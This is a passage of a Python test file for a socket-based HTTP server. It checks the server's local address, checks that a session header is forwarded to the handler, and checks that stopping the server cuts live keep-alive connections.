        assert running_server.url.startswith("http://127.0.0.1:")

    def test_headers_forwarded_to_handler(self):
        seen = {}

        def handler(request: HTTPRequest) -> HTTPResponse:
            seen["session"] = request.headers.get("X-Clarens-Session")
            return HTTPResponse.ok(b"ok")

        with SocketHTTPServer(handler) as server:
            host, port = server.address
            conn = http.client.HTTPConnection(host, port, timeout=5)
            conn.request("GET", "/x", headers={"X-Clarens-Session": "abc123"})
            conn.getresponse().read()
            conn.close()
        assert seen["session"] == "abc123"

    def test_stop_severs_established_keepalive_connections(self):
        """stop() must kill live keep-alive connections, not just the
        acceptor.

        Without severing, a daemon handler thread blocked in a keep-alive
        read keeps serving the stopped instance's (frozen) state — after a
        same-port restart, clients holding old connections silently talk to
        the dead server while new connections reach the live one.
        """

        server = SocketHTTPServer(echo_handler).start()
        host, port = server.address
        conn = http.client.HTTPConnection(host, port, timeout=5)
        conn.request("GET", "/before")
        assert conn.getresponse().read() == b"GET /before 0"
        server.stop()
        with pytest.raises((ConnectionError, http.client.HTTPException,
                            OSError)):
            conn.request("GET", "/after")
            conn.getresponse().read()
        conn.close()
